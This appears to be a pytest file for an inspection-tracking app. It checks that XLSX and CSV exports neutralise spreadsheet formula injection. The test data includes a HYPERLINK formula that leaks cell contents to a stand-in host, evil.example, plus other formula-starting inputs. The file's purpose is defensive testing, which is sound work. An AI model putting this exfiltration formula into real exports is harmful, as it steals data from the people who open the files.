"""Issue 20, finding 1: text from units and inspectors never becomes a live formula in an exported XLSX or CSV."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from fastapi.testclient import TestClient
from openpyxl import load_workbook
from typer.testing import CliRunner

from flows.cli import app as cli
from flows.inspections import inert, to_csv, to_xlsx
from store import db
from tests.conftest import local
from tests.desk_support import log_in
from tests.web_support import Clock
from web.app import app, clock

runner = CliRunner()
LEAK = '=HYPERLINK("http://evil.example/?leak="&A1,"整改照片")'
HOSTILE = {"--site": "+1+2", "--general": "@SUM(A1:A9)", "--area": "-2+3", "--point": "\t=1"}


def duties(*args: str) -> str:
    result = runner.invoke(cli, list(args))
    assert result.exit_code == 0, result.stdout + result.stderr
    return result.stdout


def _campaign_with_hostile_text() -> None:
    """A finding whose every field could start a formula, and a unit's confirmation note that is one."""
    duties("init", "--at", "2026-03-02T09:00")
    duties("inspect", "new", "safety-fire", "--name", "=1+1", "--at", "2026-03-02T09:00")
    hostile = [part for pair in HOSTILE.items() for part in pair]
    duties(
        "inspect", "finding", "1", "--unit", "wuxing-feiying", "--problem", LEAK, *hostile, "--at", "2026-03-02T10:00"
    )
    url = duties("link", "1", "--at", "2026-03-02T10:05").strip()
    with TestClient(app) as client:
        app.dependency_overrides[clock] = Clock(local("2026-03-05T10:00"))
        confirmed = client.post(url.split("127.0.0.1:8000", 1)[-1], data={"note": LEAK})
        app.dependency_overrides.clear()
    assert confirmed.status_code == 200
    duties("inspect", "reinspect", "1", "--fail", "--note", "\r=2+2", "--at", "2026-03-17T10:00")


def _assert_inert_workbook(data: bytes) -> None:
    book = load_workbook(io.BytesIO(data))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert all(cell.data_type != "f" for cell in cells)
    texts = [cell.value for cell in cells if cell.data_type == "s"]
    assert "'" + LEAK in texts and "'=1+1 · 检查结果清单" in texts
    assert {"'+1+2", "'@SUM(A1:A9)", "'-2+3", "'=1", "'=2+2"} <= set(texts)  # input is stripped of tab and CR
    assert not [text for text in texts if text.startswith(("=", "+", "-", "@", "\t", "\r"))]
    numbers = [cell.value for cell in book["整改清单"]["A"][2:]]
    assert numbers == [1]  # the 序号 the system writes stays a number


def _assert_inert_csv(data: bytes) -> None:
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert "'" + LEAK in cells or "'+1+2" in cells


def test_cli_export_neutralises_formulas(sqlite_store: str, tmp_path: Path) -> None:
    _campaign_with_hostile_text()
    duties("inspect", "export", "1", "--out", str(tmp_path), "--at", "2026-04-01T09:00")
    _assert_inert_workbook((tmp_path / "检查1-四清单.xlsx").read_bytes())
    rectification = (tmp_path / "检查1-整改清单.csv").read_bytes()
    assert ("'" + LEAK).replace('"', '""') in rectification.decode("utf-8-sig")
    for name in ("检查结果清单", "整改清单", "责任清单", "复检清单"):
        _assert_inert_csv((tmp_path / f"检查1-{name}.csv").read_bytes())


def test_desk_export_neutralises_formulas(sqlite_store: str) -> None:
    _campaign_with_hostile_text()
    with db.session_scope() as session, TestClient(app) as client:
        app.dependency_overrides[clock] = Clock(local("2026-04-01T09:00"))
        log_in(client, session, "city-boss")
        workbook = client.get("/desk/campaigns/1/lists.xlsx")
        listing = client.get("/desk/campaigns/1/lists/整改清单.csv")
        app.dependency_overrides.clear()
    assert workbook.status_code == 200 and listing.status_code == 200
    _assert_inert_workbook(workbook.content)
    _assert_inert_csv(listing.content)


def test_every_formula_start_is_neutralised_and_numbers_stay_numbers() -> None:
    starts = ["=1", "+1", "-1", "@A1", "\t=1", "\r=1"]
    assert [inert(text) for text in starts] == ["'" + text for text in starts]
    assert [inert(value) for value in (-3, 2.5, None, "整改完毕", "a=b")] == [-3, 2.5, None, "整改完毕", "a=b"]
    book = load_workbook(io.BytesIO(to_xlsx({"清单": [["序号", "说明"], [-1, "\t=1"]]}, title="t")))
    number, text = book["清单"]["A3"], book["清单"]["B3"]
    assert (number.value, number.data_type) == (-1, "n") and (text.value, text.data_type) == ("'\t=1", "s")
    assert to_csv([[-1, "\r=1"]]).decode("utf-8-sig") == '-1,"\'\r=1"\r\n'
